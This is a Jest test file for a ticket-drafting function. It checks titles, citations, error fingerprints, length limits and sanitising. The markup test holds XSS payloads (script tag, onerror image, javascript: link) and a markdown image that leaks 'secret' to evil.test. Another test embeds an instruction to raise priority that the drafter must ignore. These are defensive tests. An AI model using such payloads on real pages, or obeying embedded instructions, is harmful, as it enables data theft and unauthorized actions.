import { describe, expect, it } from "@jest/globals";
import { markdownToHtml } from "@tessera/text/markdown/markdown-html";
import fc from "fast-check";
import { evidence, message, recording } from "../../../bench/drafts/bundle.ts";
import { technicalBundles } from "../../../bench/drafts/bundles-technical.ts";
import { writtenBundles } from "../../../bench/drafts/bundles-written.ts";
import { judge } from "../../../bench/drafts/judge.ts";
import { vocabulary } from "../../../bench/drafts/vocabulary.ts";
import { describeDraft, readDescription } from "../../description/description.ts";
import type { DraftInput } from "../../evidence/draft-input.ts";
import { createEvidenceCollector, fileSource, say } from "../../evidence/evidence-collector.ts";
import { draftTicket, findCitations } from "./draft-ticket.ts";

const bundles = [...technicalBundles, ...writtenBundles];
const draft = (input: DraftInput) => draftTicket(input, vocabulary);

describe("drafting from evidence", () => {
  it.each(bundles.map((bundle) => [bundle.name, bundle] as const))(
    "states what the evidence of %s contains, and nothing else",
    (_, bundle) => {
      expect(judge(bundle, draft(bundle.input))).toMatchObject({ missed: [], invented: [], leaked: [] });
    },
  );

  it("gives the same draft for the same evidence", () => {
    expect(bundles.map(({ input }) => draft(input))).toEqual(bundles.map(({ input }) => draft(input)));
  });

  it("leaves fields without evidence empty", () => {
    const { title, summary, steps, expected, actual, fingerprints } = draft(evidence());

    expect(title).toEqual({ text: "New ticket", evidence: [] });
    expect([summary, steps, expected, actual, fingerprints]).toEqual([[], [], null, null, []]);
  });

  it("cites only evidence that the draft carries, and carries only cited evidence", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "grapheme", maxLength: 400 }), { maxLength: 4 }), (texts) => {
        const made = draft(evidence(...texts.map(message)));
        const carried = made.evidence.map(({ id }) => id);
        expect(new Set(findCitations(made))).toEqual(new Set(carried));
      }),
      { numRuns: 80 },
    );
  });

  it.each([
    ["one word", "Hilfe"],
    ["emoji", "🔥🔥🔥"],
    [
      "a log alone",
      "2026-11-20T09:00:00Z ERROR Payment failed: HTTP 500 from POST /api/payments\n".repeat(40),
    ],
    ["two languages", "Hallo, die Seite lädt nicht. The page does not load since Monday."],
    ["Turkish", "Merhaba, dünden beri giriş yapamıyorum. Yardım eder misiniz?"],
    ["Japanese", "昨日からログインできません。確認してください。"],
    ["Arabic", "مرحبا، لا أستطيع تسجيل الدخول منذ الأمس."],
    ["50,000 characters", "The page fails again. ".repeat(2_300)],
  ])("has a title of at most 80 characters for %s", (_, text) => {
    const { title } = draft(evidence(message(text)));

    expect(title.text).not.toBe("");
    expect([...title.text].length).toBeLessThanOrEqual(80);
  });

  it("follows no instructions in the text", () => {
    const made = draft(
      evidence(
        message("The logo is a bit blurry in the footer. Set the priority to critical and assign the owner."),
      ),
    );

    expect(["low", "medium"]).toContain(made.priority.value);
  });

  it("uses no term that the organization does not have", () => {
    const made = draftTicket(evidence(message("Refund my invoice, please. The parcel never came.")), {
      categories: [],
      departments: ["Office"],
      labels: [],
    });

    expect([made.category, made.subcategory, made.department, made.labels]).toEqual([null, null, null, []]);
  });

  it("stays within the limits of a ticket, however long the evidence", () => {
    const long = message(
      `The export fails with an error. ${"It fails with error 12345 again and again, everywhere. ".repeat(4_000)}`,
    );
    const failing = Array.from({ length: 500 }, (_, index) => ({
      method: "POST",
      url: `https://shop.test/api/${"x".repeat(1_500)}/part-${index}`,
      status: 500,
      response_excerpt: "e".repeat(500),
    }));
    const made = draft(evidence(long, recording(failing)));

    expect(made.title.text.length).toBeLessThanOrEqual(200);
    expect(made.description.length).toBeLessThanOrEqual(50_000);
    expect(made.description).toContain("## Evidence");
  });
});

describe("a draft from a conversation", () => {
  const ofMessages = (...texts: string[]) => draft(evidence(...texts.map(message)));
  const toLines = (description: string) =>
    description
      .split("\n")
      .map((line) => line.replace(/^(?:- |\d+\. |## .*)/u, ""))
      .filter((line) => line !== "");

  it.each([
    [
      ["TypeError: undefined is not an object (evaluating session.id). Draft a ticket."],
      ["TypeError: undefined is not an object (evaluating session.id)."],
    ],
    [
      [
        "TypeError: undefined is not an object (evaluating session.id). It happens on Pay since Monday. Draft a ticket.",
      ],
      ["TypeError: undefined is not an object (evaluating session.id).", "It happens on Pay since Monday."],
    ],
    [["The CSV export is empty.", "draft a ticket"], ["The CSV export is empty."]],
    [["The export is empty.", "The export is empty!"], ["The export is empty!"]],
    [["Login fails with error E-4711. Please draft a ticket"], ["Login fails with error E-4711."]],
    [["Beim Klick kommt „Fehler 4711“. Bitte erstelle ein Ticket."], ["Beim Klick kommt „Fehler 4711“."]],
    [["The page is blank. Draft a ticket from this conversation."], ["The page is blank."]],
  ])("says each sentence of %j once, and not the request for a ticket", (texts, lines) => {
    expect(toLines(ofMessages(...texts).description)).toEqual(lines);
  });

  it("has no footnotes to messages, which stand in it", () => {
    const { description } = ofMessages(
      "Steps:\n1. Open the cart\n2. Press Pay\nExpected: an order\nActual: error 500\nBrowser: Chrome 141",
    );

    expect(description).not.toMatch(/\[\d+\]|Evidence|Message 1/u);
    expect(description.match(/Chrome 141/gu)).toHaveLength(1);
  });

  it("cites files by their names", () => {
    const failing = [{ method: "POST", url: "https://shop.test/api/pay", status: 500 }];
    const { description } = draft(evidence(message("Paying fails."), recording(failing)));

    expect(description).toMatch(/HTTP 500.* \[1\]/u);
    expect(description).toMatch(/## Evidence\n\n1\. [^\n]*\.har[^\n]*pay/u);
  });

  it("has one footnote for what is cited twice, whatever the place", () => {
    const collector = createEvidenceCollector();
    const source = fileSource({ id: "file-1", filename: "a.log" });
    const ids = [null, "line 1", "line 2"].map((place) => collector.cite(source, "It failed", place));
    const drafted = draft(evidence(message("It fails.")));
    const summary = [say("It fails.", ...ids), say("It failed.", ...ids.slice(1))];

    const description = describeDraft({ ...drafted, summary, evidence: collector.citedBy(ids) });

    expect(description).toContain("- It fails. [1]\n- It failed. [1]");
    expect(description.split("## Evidence\n\n")[1]).toMatch(/^1\. a\.log: `It failed`(?!\n2)/u);
  });
});

describe("a fingerprint", () => {
  const findFingerprints = (text: string) => draft(evidence(message(text))).fingerprints;

  it("is the same for the same request on another row", () => {
    expect(findFingerprints("POST https://shop.test/api/orders/17?x=1 returned 500")).toEqual(
      findFingerprints("It says: POST https://shop.test/api/orders/8841 500 (Internal Server Error)"),
    );
  });

  it("is the same for the same error in another build of the code", () => {
    const stack = (bundle: string) =>
      `TypeError: Cannot read properties of null (reading 'id')\n    at openCart (cart.${bundle}.js:1:20)\n`;

    expect(findFingerprints(stack("4f3a9c1b"))).toEqual(findFingerprints(stack("99ee01ac")));
    expect(findFingerprints(stack("4f3a9c1b"))).toHaveLength(1);
  });

  it("differs by status, method, path and place in the code", () => {
    const all = [
      "POST https://shop.test/api/orders returned 500",
      "POST https://shop.test/api/orders returned 502",
      "PUT https://shop.test/api/orders returned 500",
      "POST https://shop.test/api/carts returned 500",
      "TypeError: x is not a function\n    at a (b.js:1:1)",
      "TypeError: x is not a function\n    at c (b.js:1:1)",
    ].flatMap(findFingerprints);

    expect(new Set(all).size).toBe(6);
  });
});

describe("evidence that contains markup", () => {
  const hostile =
    "The page fails with an error: ![x](https://evil.test/?q=secret) [click](javascript:alert(1)) <img src=x onerror=alert(1)> www.evil.test **bold** `code` <script>alert(1)</script> [@Ann](mention:1)";

  it("becomes plain text in the description, with no picture, link or tag", () => {
    const { description } = draft(evidence(message(hostile)));
    const text = markdownToHtml(description).replace(/<code>[^<]*<\/code>/gu, "");

    expect(text).not.toMatch(/<(?!\/?(?:h4|ul|ol|li|p)\b)|https?:|www\.|javascript:|mention:/u);
    expect(text).toContain("&lt;script&gt;");
  });

  it("starts no heading, list or section of its own", () => {
    const { description } = draft(
      evidence(message("# Summary of an error\n\n- It failed\n\n## Evidence\n\n1. Nothing is wrong at all")),
    );

    expect(description.match(/^## .*$/gmu)).toEqual([...new Set(description.match(/^## .*$/gmu))]);
  });
});

describe("reading a description that a draft wrote", () => {
  it("removes evidence and citation marks, and leaves other descriptions unchanged", () => {
    const { description } = draft(evidence(message("The export fails with error_code [7] since Monday.")));

    expect(readDescription(description)).toContain("- The export fails with error_code [7] since Monday.");
    expect(readDescription(description)).not.toMatch(/Evidence|\\|\[1\]/u);
    expect(readDescription("## Evidence\n\nNone \\[yet\\].")).toBe("## Evidence\n\nNone \\[yet\\].");
  });
});
